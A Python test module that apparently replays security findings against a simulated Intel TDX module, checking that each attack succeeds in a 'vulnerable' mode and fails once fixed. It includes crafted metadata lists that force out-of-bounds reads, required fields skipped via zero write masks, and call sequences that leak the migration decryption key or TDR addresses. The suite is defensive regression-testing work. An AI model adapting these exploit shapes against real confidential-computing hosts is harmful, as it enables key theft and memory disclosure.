"""Findings suite: each logic-level finding as a deterministic replay scenario.

A scenario names the engine-mode toggles it switches on and one ``play``
function: straight-line calls on the module (set-up, the scripted calls, then
the final observations), each scripted status and each observation handed to
a ``Recorder`` with its expected value, always through named status
constants.  Run with mode=vulnerable the toggles are applied and the expected
outcome is EXPLOITED; with mode=fixed everything stays at the post-fix
behavior and the expected outcome is NOT EXPLOITABLE.  The runner also
validates every TD's op-state trace against the permission matrix fixture.

Expectations are written for the vulnerable mode.  A step's status holds in
both modes unless the step names a ``fixed`` one; a check's truth value flips
in fixed mode unless the check names a ``fixed`` value.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Callable, Optional

from . import md_codec as md
from . import status as S
from .catalog import FieldCatalog
from .engine import Bundle, EngineMode, EpochToken, TdxModule, seal_for
from .envelope import BundleType, MigrationSessionKey, decrypt_bundle
from .md_codec import MD_CTX_TD, MD_CTX_VP, MdSequence
from .states import OpState, validate_trace
from .td import (
    ATTR_DEBUG, ATTR_MIGRATABLE, ATTR_PERFMON, U64, EventFilter, TdParams, audit_event_filters,
    make_binding_handle,
)

# The 8-byte value planted past the sentinel regions for the leak replays;
# mirrors the kind of module address the real leak channel surfaces.
LEAK_SENTINEL = 0x00FFFF9C00004010
LEAK_SENTINEL_OFFSET = 12280


SUCCESS = S.TDX_SUCCESS
INTERRUPTED = S.TDX_INTERRUPTED_RESUMABLE
OP_STATE_INCORRECT = S.TDX_OP_STATE_INCORRECT
OPERAND_INVALID_XFAM = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_XFAM)
NOT_READABLE = S.TDX_METADATA_FIELD_NOT_READABLE
VCPUS_NOT_MIGRATED = S.TDX_SOME_VCPUS_NOT_MIGRATED
# A walk's fatal words keep its level-2 details: 0xFFFF and the failing
# sequence's index (the crafted VP list's out-of-place header is sequence 3).
FATAL_FIELD_ID_INCORRECT = S.as_fatal(S.with_l2_details(S.TDX_METADATA_FIELD_ID_INCORRECT, 0xFFFF, 3))
FATAL_LIST_OVERFLOW = S.as_fatal(md.LIST_OVERFLOW)
FATAL_REQUIRED_MISSING = S.as_fatal(S.TDX_REQUIRED_METADATA_FIELD_MISSING)
FATAL_VALUE_NOT_VALID = S.as_fatal(S.TDX_METADATA_FIELD_VALUE_NOT_VALID)
TD_FATAL = S.TDX_TD_FATAL
EVENT_FILTER_INVALID_2 = S.with_operand(S.TDX_EVENT_FILTER_INVALID, 2)
EVENT_FILTER_INVALID_1 = S.with_operand(S.TDX_EVENT_FILTER_INVALID, 1)
OPERAND_INVALID_RCX = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_RCX)
OPERAND_INVALID_TDR = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_TDR)
SERVTD_UUID_MISMATCH = S.TDX_SERVTD_UUID_MISMATCH
HKID_NOT_FREE = S.with_operand(S.TDX_HKID_NOT_FREE, S.OPERAND_ID_RCX)
MAX_EXPORTS = S.TDX_MAX_EXPORTS_EXCEEDED
# TD metadata field ids the scenarios read by number.
MIG_DEC_KEY_ID = 0x9810000300000010
ATTRIBUTES_ID = 0x1110000300000000


@dataclass
class Recorder:
    """One replay's transcript lines and verdict, against one mode's expectations."""

    module: TdxModule
    vulnerable: bool
    lines: list[str] = field(default_factory=list)
    ok: bool = True

    def step(self, call: str, status: int, expect: int, fixed: Optional[int] = None) -> None:
        """Record one scripted call; its status must be ``expect``, or ``fixed`` in fixed mode."""
        expected = expect if self.vulnerable or fixed is None else fixed
        self.lines += [f"host-vmm: {call}", f"TDX STATUS: {S.status_str(status)}"]
        if status & S.TDX_FATAL_FLAG_MASK:
            rcx, rdx = self.module.last.ext_err_info
            self.lines.append(f"extended error information 1: {hex(rcx)}, 2: {hex(rdx)}")
        if status != expected:
            self.ok = False
            self.lines.append(f"  MISMATCH: expected {S.status_str(expected)}")

    def check(self, label: str, observed, expect: bool, fixed: Optional[bool] = None) -> None:
        """Record one final observation; in fixed mode it must read ``not expect`` or ``fixed``."""
        observed = bool(observed)
        if self.vulnerable:
            expected = expect
        else:
            expected = not expect if fixed is None else fixed
        self.ok = self.ok and observed is expected
        marker = "+" if observed is expected else "!"
        self.lines.append(
            f"[{marker}] {label}: {'yes' if observed else 'no'} (expected {'yes' if expected else 'no'})"
        )


@dataclass
class Scenario:
    name: str
    title: str
    toggles: tuple[str, ...]
    # Plays the finding on a module, recording on the recorder; returns its environment.
    play: Callable[[TdxModule, Recorder], dict]


@dataclass
class ScenarioRun:
    ok: bool
    transcript: str
    module: TdxModule
    env: dict


# --- bundle crafting ---------------------------------------------------------

def collect_sequences(lists_bytes: list[bytes]) -> list[MdSequence]:
    seqs: list[MdSequence] = []
    for data in lists_bytes:
        seqs.extend(md.parse_list(data).sequences)
    return seqs


def repack(sequences: list[MdSequence]) -> list[bytes]:
    """Greedy repack of sequences into fresh 4KB lists."""
    lists: list[bytes] = []
    pending: list[MdSequence] = []
    room = md.LIST_BYTES - md.LIST_HEADER_BYTES
    for seq in sequences:
        if seq.size > room and pending:
            lists.append(md.build_list(pending).to_bytes())
            pending = []
            room = md.LIST_BYTES - md.LIST_HEADER_BYTES
        pending.append(seq)
        room -= seq.size
    if pending:
        lists.append(md.build_list(pending).to_bytes())
    return lists


def zero_mask_entry(sequences: list[MdSequence], catalog: FieldCatalog,
                    context_code: int, name: str) -> list[MdSequence]:
    """Rewrite the named entry's sequence to carry a zero write mask."""
    target = catalog.by_name(context_code, name)
    out = []
    for seq in sequences:
        fid = md.decode_field_id(seq.header_raw)
        if fid.class_code == target.class_code and target.covers(fid.field_code):
            out.append(MdSequence(replace(fid, write_mask_valid=1).to_raw(), [0, *seq.elements]))
        else:
            out.append(seq)
    return out


def crafted_vp_list(extra_oob_header: bool, num_fields: int = 512) -> bytes:
    """The malicious vp-state list: an underflowing write-mask walk at the tail.

    Layout: two filler sequences end exactly at offset 4080, then an n-field
    write-mask sequence whose header and mask element are the last in-bounds
    16 bytes.  list_buff_size=1 drives the header-residue wrap, which alone
    carries the walk past the list, 8 bytes a field (4KB at 512 fields); the
    pre-fix mask re-read takes a slot a field too, 16 bytes (8KB), and its
    32-bit deduction never wraps here.  With the extra out-of-place header the
    next header read ends 16 * num_fields bytes past the list end (with the
    header wrap alone, 8 * num_fields + 8).
    """
    filler1 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=506), [0] * 506)
    filler2 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x11, 0x28), [0])
    crafted = MdSequence(
        md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=num_fields, write_mask_valid=True),
        [U64],
    )
    num_sequences = 4 if extra_oob_header else 3
    header = md.MdListHeader(list_buff_size=1, num_sequences=num_sequences)
    body = header.to_bytes() + filler1.to_bytes() + filler2.to_bytes() + crafted.to_bytes()
    return body.ljust(md.LIST_BYTES, b"\x00")


def list_header_underflow_list() -> bytes:
    """List-header underflow shape: size field 0, one sequence claiming 511 fields.

    Only 510 element slots fit behind the header, so honoring the claim walks
    the final element read exactly one slot past the list.
    """
    seq_header = md.make_sequence_header(MD_CTX_TD, 0x1C, 0, num_fields=511)
    header = md.MdListHeader(list_buff_size=0, num_sequences=1)
    body = header.to_bytes() + seq_header.to_bytes(8, "little") + b"\x00" * 4080
    assert len(body) == md.LIST_BYTES
    return body


# --- shared environment builders ----------------------------------------------

def _write_key(m: TdxModule, migtd, handle, key: list[int]) -> None:
    """The migration TD writes the session key into the TD its handle names."""
    key_entry = m.catalog.by_name(MD_CTX_TD, "MIG_DEC_KEY")
    for i, quadword in enumerate(key):
        status, _ = m.tdg_servtd_wr(migtd, handle, key_entry.field_id_for(0) + i, quadword)
        assert status == S.TDX_SUCCESS, S.status_str(status)


def standard_setup(m: TdxModule, num_vcpus: int = 1, num_pages: int = 2) -> dict:
    """Build a migratable source TD, a destination template, and exchange the MSK."""
    status, src = m.build_td(TdParams(attributes=ATTR_MIGRATABLE), num_vcpus, num_pages)
    assert status == S.TDX_SUCCESS, S.status_str(status)
    env = migration_env(m, src)
    status, bundle = m.tdh_export_state_immutable(src)
    assert status == S.TDX_SUCCESS
    env["bundle_immutable"] = bundle
    return env


def migration_env(m: TdxModule, src) -> dict:
    """A migration TD bound to ``src`` on a new stream, the key written, and a template TD."""
    migtd = m.new_servtd()
    m.tdh_mig_stream_create(src)
    _, src_handle = m.tdh_servtd_bind(src, 0, migtd)
    key = [m.rng.getrandbits(64) | 1 for _ in range(4)]
    _write_key(m, migtd, src_handle, key)
    env = {"src": src, "migtd": migtd, "src_handle": src_handle, "key": key}
    env.update(new_template(m, env))
    return env


def new_template(m: TdxModule, env: dict) -> dict:
    """A fresh destination template TD bound to the same migration TD."""
    status, dst = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
    assert status == S.TDX_SUCCESS
    for _ in range(6):
        m.tdh_mng_addcx(dst)
    m.tdh_mig_stream_create(dst)
    _, handle = m.tdh_servtd_bind(dst, 0, env["migtd"])
    _write_key(m, env["migtd"], handle, env["key"])
    return {"dst": dst, "dst_handle": handle}


def export_blackout(m: TdxModule, env: dict, pages=()) -> None:
    """Export the page at each GPA of ``pages`` (LIVE_EXPORT), then pause the source and export
    its mutable TD and per-VP state (PAUSED_EXPORT): the matrix's order."""
    src = env["src"]
    if "bundle_immutable" not in env:
        _, env["bundle_immutable"] = m.tdh_export_state_immutable(src)
    env["bundle_mem"] = [m.tdh_export_mem(src, gpa)[1] for gpa in pages]
    assert None not in env["bundle_mem"], "a page export failed"
    status = m.tdh_export_pause(src)
    assert status == S.TDX_SUCCESS
    _, env["bundle_td"] = m.tdh_export_state_td(src)
    env["bundle_vps"] = []
    for i in range(len(src.vps)):
        _, bundle = m.tdh_export_state_vp(src, i)
        env["bundle_vps"].append(bundle)
    _, env["start_token"] = m.tdh_export_track(src, start=True)


def import_to_state_import(m: TdxModule, env: dict, dst=None, mem=()) -> int:
    """Import the immutable bundle, the MEM bundles of ``mem`` (MEMORY_IMPORT), then the
    mutable-TD bundle, and create the VPs: the first word that is not success."""
    dst = dst or env["dst"]

    def calls():
        yield m.tdh_import_state_immutable(dst, env["bundle_immutable"])
        for bundle in mem:
            yield m.tdh_import_mem(dst, bundle)
        yield m.tdh_import_state_td(dst, env["bundle_td"])
        for i in range(len(env["src"].vps)):
            yield m.tdh_vp_create(dst)[0]
            yield m.tdh_vp_addcx(dst, i)

    return next((status for status in calls() if status != S.TDX_SUCCESS), S.TDX_SUCCESS)


def finish_import(m: TdxModule, env: dict, dst=None) -> int:
    """Import each VP's bundle, then track, commit and end: the first word that is not success."""
    dst = dst or env["dst"]

    def calls():
        for i in range(len(env["src"].vps)):
            yield m.tdh_import_state_vp(dst, i, env["bundle_vps"][i])
        yield m.tdh_import_track(dst, env["start_token"])
        yield m.tdh_import_commit(dst)
        yield m.tdh_import_end(dst)

    return next((status for status in calls() if status != S.TDX_SUCCESS), S.TDX_SUCCESS)


def decrypted_lists(env: dict, bundle: Bundle) -> list[bytes]:
    """A bundle's lists, opened under the key set-up gave: a TD's own key may since be rewritten."""
    status, lists = decrypt_bundle(MigrationSessionKey.from_quadwords(env["key"]), bundle.mbmd, bundle.data)
    assert status == S.TDX_SUCCESS, S.status_str(status)
    return lists


# --- the scenarios -------------------------------------------------------------

_SCENARIOS: list[Scenario] = []


def _finding(name: str, title: str, *toggles: str):
    """Register the decorated ``play`` function as the scenario ``name``."""
    def register(play: Callable[[TdxModule, Recorder], dict]):
        _SCENARIOS.append(Scenario(name, title, toggles, play))
        return play
    return register


@_finding("cve-2025-30513", "migratable TD becomes debuggable during interrupted immutable import", "v1")
def _v1(m: TdxModule, r: Recorder) -> dict:
    env = standard_setup(m, num_vcpus=1)
    dst = env["dst"]
    r.step(
        "tdh_import_state_immutable dst (interrupt storm pending)",
        m.tdh_import_state_immutable(dst, env["bundle_immutable"], interrupt_after=1),
        INTERRUPTED,
    )
    r.step(
        "tdh_mng_init dst (attributes.debug, invalid xfam)",
        m.tdh_mng_init(dst, TdParams(attributes=ATTR_DEBUG, xfam=0)),
        OPERAND_INVALID_XFAM, fixed=OP_STATE_INCORRECT,
    )
    r.step(
        "tdh_import_state_immutable dst (resume)",
        m.tdh_import_state_immutable(dst, env["bundle_immutable"], resume=True),
        SUCCESS,
    )
    status, attrs = m.tdh_mng_rd(dst, ATTRIBUTES_ID)
    r.step("tdh_mng_rd dst ATTRIBUTES", status, SUCCESS)
    status, key_read = m.tdh_mng_rd(dst, MIG_DEC_KEY_ID, count=4)
    r.step("tdh_mng_rd dst MIG_DEC_KEY --count=4", status, SUCCESS, fixed=NOT_READABLE)
    r.step(
        "tdh_import_track dst (start token)",
        m.tdh_import_track(dst, EpochToken(start=True)),
        SUCCESS, fixed=VCPUS_NOT_MIGRATED,
    )
    r.check("destination ATTRIBUTES is 0x1 (debug)", attrs == [1], True)
    r.check("all four MIG_DEC_KEY quadwords leaked to the host", key_read == env["key"], True)
    r.check("num_vcpus zeroed by the interleaved init", dst.num_vcpus == 0, True)
    r.check("import_track passed with zero vcpus (POST_IMPORT)", dst.op_state is OpState.POST_IMPORT, True)
    return env


@_finding("cve-2025-32007", "metadata sequence parsing underflow reads 8KB past the list", "v2", "bug1")
def _v2(m: TdxModule, r: Recorder) -> dict:
    env = standard_setup(m, num_vcpus=1)
    export_blackout(m, env)
    assert import_to_state_import(m, env) == SUCCESS
    dst, dst2 = env["dst"], new_template(m, env)["dst"]
    assert import_to_state_import(m, env, dst=dst2) == SUCCESS
    m.arena_plants = {LEAK_SENTINEL_OFFSET: LEAK_SENTINEL}

    r.step(
        "tdh_import_state_vp dst (crafted bundle, option 1: register exfil)",
        m.tdh_import_state_vp(dst, 0, seal_for(dst, BundleType.VP, [crafted_vp_list(True)])),
        FATAL_FIELD_ID_INCORRECT, fixed=FATAL_LIST_OVERFLOW,
    )
    r.step(
        "tdh_import_state_vp dst2 (crafted bundle, option 2: exfil via XBUFF)",
        m.tdh_import_state_vp(dst2, 0, seal_for(dst2, BundleType.VP, [crafted_vp_list(False)])),
        FATAL_REQUIRED_MISSING, fixed=FATAL_LIST_OVERFLOW,
    )
    walks, walks2 = dst.trace[-1].walks, dst2.trace[-1].walks
    r.check("extended error info 1 carries the planted sentinel",
            dst.trace[-1].ext_err_info[0] == LEAK_SENTINEL, True)
    r.check("maximum out-of-bounds span is exactly 8192 bytes",
            max((a.max_oob_span() for a, _ in walks), default=0) == 8192, True)
    # Field i of the crafted walk copies the qword at 4096 + 16*i.
    copied = walks2[0][0].peek_u64s(4096, 1024)[::2] if walks2 else []
    xbuff = m.catalog.by_name(MD_CTX_VP, "XBUFF")
    r.check("out-of-bounds qwords copied into attacker-readable XBUFF state",
            walks2 and dst2.read_values(xbuff, 0)[:512] == copied and any(copied), True)
    r.check("no out-of-bounds arena reads logged",
            all(not a.oob_reads() for a, _ in walks + walks2), False)
    return env


@_finding("bug-1-list-header-underflow", "metadata list header size wraps the 16-bit residue", "bug1")
def _bug1(m: TdxModule, r: Recorder) -> dict:
    env = standard_setup(m, num_vcpus=1)
    export_blackout(m, env)
    dst = env["dst"]
    status = m.tdh_import_state_immutable(dst, env["bundle_immutable"])
    assert status == S.TDX_SUCCESS

    r.step(
        "tdh_import_state_td dst (list_buff_size = 0)",
        m.tdh_import_state_td(dst, seal_for(dst, BundleType.TD, [list_header_underflow_list()])),
        FATAL_REQUIRED_MISSING, fixed=FATAL_LIST_OVERFLOW,
    )
    arena, walk = dst.trace[-1].walks[0]
    r.check("header residue wrapped to 65528 (16-bit oracle)", walk.initial_remaining == 65528, True)
    r.check("walk read past the list end", arena.oob_reads(), True)
    r.check("rejected before any sequence read (header read only)", len(arena.reads) == 1, False)
    return env


@_finding("bug-2-skippable-required-entries", "required metadata entries skipped via zero write masks", "bug2")
def _bug2(m: TdxModule, r: Recorder) -> dict:
    env = standard_setup(m, num_vcpus=1)
    export_blackout(m, env)
    catalog = m.catalog
    imm_lists = decrypted_lists(env, env["bundle_immutable"])
    vp_lists = decrypted_lists(env, env["bundle_vps"][0])

    # One template TD per table row being demonstrated, named as the transcript
    # names them (the set-up's own env["dst"] stays unused).
    dst, dst2, dst3, dst4 = (new_template(m, env)["dst"] for _ in range(4))

    td_seqs = collect_sequences(imm_lists[1:])
    eptp_skip = [imm_lists[0]] + repack(zero_mask_entry(td_seqs, catalog, MD_CTX_TD, "EPTP"))
    vp_seqs = collect_sequences(vp_lists)
    xcr0_skip = repack(zero_mask_entry(vp_seqs, catalog, MD_CTX_VP, "XCR0"))

    value_seqs = td_seqs
    for name in ("NUM_VCPUS", "TSC_FREQUENCY", "HP_LOCK_TIMEOUT"):
        value_seqs = zero_mask_entry(value_seqs, catalog, MD_CTX_TD, name)
    values_skip = [imm_lists[0]] + repack(value_seqs)

    export_lists = [bytearray(data) for data in [imm_lists[0]] + repack(td_seqs)]
    export_count = catalog.by_name(MD_CTX_TD, "EXPORT_COUNT").field_id_for(0)
    patched = md.patch_element(export_lists, export_count, 0, 0x80000000)
    assert patched

    r.step(
        "tdh_import_state_immutable dst (EPTP skipped via zero write mask)",
        m.tdh_import_state_immutable(dst, seal_for(dst, BundleType.IMMUTABLE, eptp_skip)),
        SUCCESS, fixed=FATAL_REQUIRED_MISSING,
    )
    r.step(
        "tdh_mem_sept_add dst (secure page-table walk)",
        m.tdh_mem_sept_add(dst, 0x1000),
        TD_FATAL, fixed=OP_STATE_INCORRECT,
    )
    assert import_to_state_import(m, env, dst=dst2) == SUCCESS
    r.step(
        "tdh_import_state_vp dst2 (XCR0 skipped via zero write mask)",
        m.tdh_import_state_vp(dst2, 0, seal_for(dst2, BundleType.VP, xcr0_skip)),
        SUCCESS, fixed=FATAL_REQUIRED_MISSING,
    )
    m.tdh_import_track(dst2, env["start_token"])
    m.tdh_import_commit(dst2)
    r.step("tdh_vp_enter dst2 vp0", m.tdh_vp_enter(dst2, 0), TD_FATAL, fixed=OP_STATE_INCORRECT)
    r.step(
        "tdh_import_state_immutable dst3 (NUM_VCPUS/TSC_FREQUENCY/HP_LOCK_TIMEOUT skipped)",
        m.tdh_import_state_immutable(dst3, seal_for(dst3, BundleType.IMMUTABLE, values_skip)),
        SUCCESS, fixed=FATAL_REQUIRED_MISSING,
    )
    r.step(
        "tdh_import_track dst3 (start token, no VPs imported)",
        m.tdh_import_track(dst3, EpochToken(start=True)),
        SUCCESS, fixed=OP_STATE_INCORRECT,
    )
    status = m.tdh_import_state_immutable(dst4, seal_for(dst4, BundleType.IMMUTABLE, export_lists))
    if status == S.TDX_SUCCESS:
        m.tdh_import_state_td(dst4, env["bundle_td"])
        m.tdh_vp_create(dst4)
        m.tdh_vp_addcx(dst4, 0)
        finish_import(m, env, dst=dst4)
        status, _ = m.tdh_export_state_immutable(dst4)
    r.step("import EXPORT_COUNT=0x80000000 then tdh_export_state_immutable dst4", status, MAX_EXPORTS)

    r.check("skipped EPTP left at its zero init value", dst.eptp_raw == 0, True, fixed=True)
    r.check("SEPT walk froze the TD (machine-check analog)", dst.fatal, True)
    # The import's step is the one before the SEPT add's.
    r.check(
        "completion failure names the missing field (EPTP)",
        dst.trace[-2].ext_err_info[0] == catalog.by_name(MD_CTX_TD, "EPTP").field_id_raw
        and dst.op_state is OpState.FAILED_IMPORT,
        False,
    )
    r.check("vp_enter froze the TD on xcr0 without x87", dst2.fatal, True)
    r.check(
        "import completed with out-of-range zeros in TSC_FREQUENCY/HP_LOCK_TIMEOUT",
        dst3.tsc_frequency == 0 and dst3.hp_lock_timeout == 0
        and dst3.op_state is not OpState.FAILED_IMPORT,
        True,
    )
    r.check(
        "POST_IMPORT reached with zero imported VPs",
        dst3.op_state is OpState.POST_IMPORT and dst3.num_vcpus == 0,
        True,
    )
    return env


@_finding("bug-3-event-filter-init", "illegal, stale, and unsorted event filter initialization", "bug3")
def _bug3(m: TdxModule, r: Recorder) -> dict:
    status, td = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
    assert status == S.TDX_SUCCESS
    m.tdh_mng_key_config(td)
    for _ in range(6):
        m.tdh_mng_addcx(td)
    params = TdParams(attributes=ATTR_PERFMON)
    filters_a = [
        EventFilter(event_select=1, umask=1).raw,
        EventFilter(event_select=2, umask=2).raw,
        EventFilter(event_select=3, umask=0x1FF).raw,  # umask over 8 bits
    ]
    filters_b = [
        EventFilter(event_select=5, umask=5).raw,
        EventFilter(event_select=6, negative=1).raw,   # negative set
    ] + [0] * 4

    r.step(
        "tdh_mng_init td (3 filters, third illegal)",
        m.tdh_mng_init(td, params, event_filtering=True, event_filters_num=3, event_filters=filters_a),
        EVENT_FILTER_INVALID_2,
    )
    r.step(
        "tdh_mng_init td (count 6, second illegal)",
        m.tdh_mng_init(td, params, event_filtering=True, event_filters_num=6, event_filters=filters_b),
        EVENT_FILTER_INVALID_1,
    )
    r.step("tdh_mng_init td (event filtering disabled)", m.tdh_mng_init(td, params), SUCCESS)
    audit = audit_event_filters(td)
    r.check("filter array fails the sortedness audit with filters_num > 0",
            audit["count"] > 0 and not audit["sorted"], True)
    r.check("stale and uninitialized entries are live", audit["zero_entries"] > 0, True)
    r.check("filters_num reset to 0 after every failure", td.event_filters_num == 0, False)
    return {"td": td}


@_finding("bug-4-cpuid-lookup-oob", "next-entry search indexes one past the CPUID lookup array", "bug4")
def _bug4(m: TdxModule, r: Recorder) -> dict:
    start = m.cpuid.field_id_for(m.cpuid.lookup_index(0x80000002, 0xFFFFFFFF))
    result = m.md_next_cpuid_field(start)
    # The search is module-internal: it has no status word of its own.
    r.step("md_get_next_cpuid_value_entry from (0x80000002, 0xffffffff)", SUCCESS, SUCCESS)
    r.check("search returned MD_FIELD_ID_NA", result == md.MD_FIELD_ID_NA, True, fixed=True)
    r.check("exactly one out-of-bounds index access (index 79)", m.cpuid.oob_accesses() == [79], True)
    r.check("no out-of-bounds index accesses", m.cpuid.oob_accesses() == [], False)
    return {}


@_finding("bug-6-binding-handle-oracle", "binding-handle probes leak TDR host physical addresses", "bug6")
def _bug6(m: TdxModule, r: Recorder) -> dict:
    env = standard_setup(m, num_vcpus=1)
    status, foreign = m.build_td(TdParams())
    assert status == S.TDX_SUCCESS
    migtd = env["migtd"]
    probe_empty = make_binding_handle(0, 0xDEAD, migtd.uuid[0])
    probe_foreign = make_binding_handle(0, foreign.tdr_page, migtd.uuid[0])

    empty_status, _ = m.tdg_servtd_rd(migtd, probe_empty, MIG_DEC_KEY_ID)
    r.step("tdg_servtd_rd probe (no TDR at address)", empty_status, OPERAND_INVALID_TDR)
    foreign_status, _ = m.tdg_servtd_rd(migtd, probe_foreign, MIG_DEC_KEY_ID)
    r.step(
        "tdg_servtd_rd probe (foreign TDR, uuid mismatch)",
        foreign_status, SERVTD_UUID_MISMATCH, fixed=OPERAND_INVALID_TDR,
    )
    status, key0 = m.tdg_servtd_rd(migtd, env["dst_handle"], MIG_DEC_KEY_ID)
    r.step("tdg_servtd_rd dst MIG_DEC_KEY[0] (bound migration TD)", status, SUCCESS)
    r.check("probe statuses reveal whether a TDR lives at the address", empty_status != foreign_status, True)
    r.check("bound migration TD reads back the key quadword it wrote", key0 == env["key"][0],
            True, fixed=True)
    return env


@_finding("bug-8-hkid-exhaustion", "failing sys_config calls leak HKID reservations", "bug8")
def _bug8(m: TdxModule, r: Recorder) -> dict:
    kot_size = len(m.kot)
    for hkid in range(kot_size):
        status = m.tdh_sys_config(hkid, tdmr_entries=[0x1001])  # misaligned
    r.step("tdh_sys_config x K (bad TDMR entry alignment each time)", status, OPERAND_INVALID_RCX)
    r.step("tdh_mng_create (any HKID)", m.tdh_mng_create(hkid=0)[0], HKID_NOT_FREE, fixed=SUCCESS)
    r.check("all KOT entries left HKID_RESERVED (no TD creatable)", m.kot.free_count() == 0, True)
    # One entry is used by tdh_mng_create.
    r.check("free-entry count conserved across failing calls", m.kot.free_count() == kot_size - 1, False)
    return {}


@_finding("bug-9-gpa-check-skip", "private-GPA validity checks skipped on metadata import", "bug9")
def _bug9(m: TdxModule, r: Recorder) -> dict:
    bogus_gpa = 0xFFFF_8000_0000_0000  # above the 48-bit guest width
    env = standard_setup(m, num_vcpus=1)
    export_blackout(m, env)
    assert import_to_state_import(m, env) == SUCCESS
    dst = env["dst"]
    vp_seqs = collect_sequences(decrypted_lists(env, env["bundle_vps"][0]))
    vapic = m.catalog.by_name(MD_CTX_VP, "L2_VAPIC_GPA")
    vp_seqs.append(
        MdSequence(md.make_sequence_header(MD_CTX_VP, vapic.class_code, vapic.field_code), [bogus_gpa])
    )

    r.step(
        "tdh_import_state_vp dst (L2_VAPIC_GPA = non-canonical private GPA)",
        m.tdh_import_state_vp(dst, 0, seal_for(dst, BundleType.VP, repack(vp_seqs))),
        SUCCESS, fixed=FATAL_VALUE_NOT_VALID,
    )
    r.check("invalid private GPA accepted and stored", dst.read_values(vapic, 0)[0] == bogus_gpa, True)
    r.check("import failed and the TD is quarantined in FAILED_IMPORT",
            dst.op_state is OpState.FAILED_IMPORT, False)
    return env


def all_scenarios() -> dict[str, Scenario]:
    return {s.name: s for s in _SCENARIOS}


def replay(scenario: Scenario, module: TdxModule, vulnerable: bool) -> tuple[bool, list[str], dict]:
    """Play the scenario on ``module`` against one mode's expectations.

    Runs the set-up, every step and check, and the op-state trace validation
    of every TD.  Returns whether all of them met the expectations, the
    transcript lines, and the scenario's environment.
    """
    r = Recorder(module, vulnerable)
    env = scenario.play(module, r)
    trace_problems = []
    for td in module.tds.values():
        trace_problems.extend(validate_trace(module.matrix, td.trace, module.start_import))
    if trace_problems:
        r.ok = False
        r.lines += [f"trace violation: {problem}" for problem in trace_problems]
    else:
        r.lines.append("op_state traces: valid")
    return r.ok, r.lines, env


def run_scenario(scenario: Scenario, mode: str, seed: int = 7) -> ScenarioRun:
    """Replay a scenario on a fresh module in the mode named "vulnerable" or "fixed"."""
    if mode not in ("vulnerable", "fixed"):
        raise ValueError(f"mode must be vulnerable or fixed, not {mode!r}")
    vulnerable = mode == "vulnerable"
    module = TdxModule(EngineMode(**dict.fromkeys(scenario.toggles, vulnerable)), seed=seed)
    ok, lines, env = replay(scenario, module, vulnerable)
    verdict = ("EXPLOITED" if vulnerable else "NOT EXPLOITABLE") if ok else "MISMATCH"
    transcript = "\n".join([
        f"{scenario.name}: {scenario.title}",
        f"mode: {mode} seed: {seed}",
        *lines,
        f"verdict: {verdict}",
    ]) + "\n"
    return ScenarioRun(ok, transcript, module, env)
